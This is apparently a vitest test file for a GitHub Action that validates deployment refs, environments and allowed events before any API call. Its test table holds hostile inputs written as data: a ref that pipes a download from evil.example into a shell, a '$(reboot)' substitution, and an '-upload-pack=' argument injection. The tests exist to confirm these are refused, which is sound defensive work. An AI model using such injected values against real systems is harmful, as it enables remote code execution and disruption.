import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { runAction } from '@gatehouse/runner-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const actionDir = join(import.meta.dirname, '..');
const dispatchEvent = JSON.parse(
  readFileSync(join(import.meta.dirname, 'events', 'dispatch-with-ref.json'), 'utf8'),
);

describe('resolve-ref bundle refuses bad input before any API call', () => {
  // A server that counts requests: a refused ref must not reach it.
  let requests = 0;
  const server = createServer((_, res) => {
    requests++;
    res.writeHead(500).end();
  });
  let apiUrl = '';
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    apiUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const dispatch = (inputs: Record<string, string>) =>
    runAction({
      actionDir,
      inputs: { environment: 'dev', token: 'ghs_test', ...inputs },
      github: {
        eventName: 'workflow_dispatch',
        event: dispatchEvent,
        ref: 'refs/heads/main',
        sha: 'a'.repeat(40),
        apiUrl,
      },
    });

  it.each([
    ['main; curl evil.example | sh', 'whitespace'],
    ['$(reboot)', "shell metacharacter '$'"],
    ['a..b', "'..'"],
    ['topic@{1}', "'@{'"],
    ['-upload-pack=x', "starts with '-'"],
    ['feature.lock', "'.lock'"],
    ['x'.repeat(300), 'longer than 255'],
  ])('%j is refused (%s)', async (ref, why) => {
    const before = requests;
    const run = await dispatch({ ref });
    expect(run.succeeded).toBe(false);
    expect(run.errors).toHaveLength(1);
    expect(run.errors[0]).toContain("Configuration error: Input 'ref' is not a valid ref");
    expect(run.errors[0]).toContain(why);
    expect(requests).toBe(before);
  });

  it('an empty environment is refused naming the input', async () => {
    const run = await dispatch({ environment: '' });
    expect(run.errors).toEqual(["Configuration error: Input 'environment' is required but was empty."]);
  });

  it('an event outside allowed-events is refused', async () => {
    const run = await runAction({
      actionDir,
      inputs: { environment: 'dev' },
      github: { eventName: 'pull_request', event: {}, ref: 'refs/pull/1/merge', sha: 'a'.repeat(40), apiUrl },
    });
    expect(run.errors.join()).toMatch(
      /Event 'pull_request' is not in allowed-events \(push, workflow_dispatch, release\)/,
    );
  });

  it('a ref outside allowed-refs is refused for prod', async () => {
    const run = await runAction({
      actionDir,
      inputs: { environment: 'prod', 'allowed-refs': 'refs/heads/main,refs/tags/v*' },
      github: {
        eventName: 'push',
        event: { ref: 'refs/heads/experiment', after: 'b'.repeat(40) },
        ref: 'refs/heads/experiment',
        sha: 'b'.repeat(40),
        apiUrl,
      },
    });
    expect(run.errors.join()).toMatch(/does not allow 'refs\/heads\/experiment' to be deployed to 'prod'/);
  });

  describe('an empty list input means its default, as every empty input does', () => {
    const push = (inputs: Record<string, string>) =>
      runAction({
        actionDir,
        inputs,
        github: {
          eventName: 'push',
          event: { ref: 'refs/heads/experiment', after: 'b'.repeat(40) },
          ref: 'refs/heads/experiment',
          sha: 'b'.repeat(40),
          apiUrl,
        },
      });

    it("allowed-events: '' (a caller's empty expression) allows the default events, not none", async () => {
      const run = await push({ environment: 'dev', 'allowed-events': '' });
      expect(run.errors).toEqual([]);
      expect(run.outputs.source).toBe('push');
    });

    it("allowed-refs: '' allows any ref, its default", async () => {
      const run = await push({ environment: 'dev', 'allowed-refs': '' });
      expect(run.errors).toEqual([]);
    });

    it("protected-environments: '' still protects prod and production", async () => {
      const run = await dispatch({ environment: 'prod', 'protected-environments': '' });
      // Protected and no ref: the default branch, which the run's own ref already is — no lookup needed.
      expect(run.errors).toEqual([]);
      expect(run.outputs.source).toBe('protected-default');
    });
  });
});
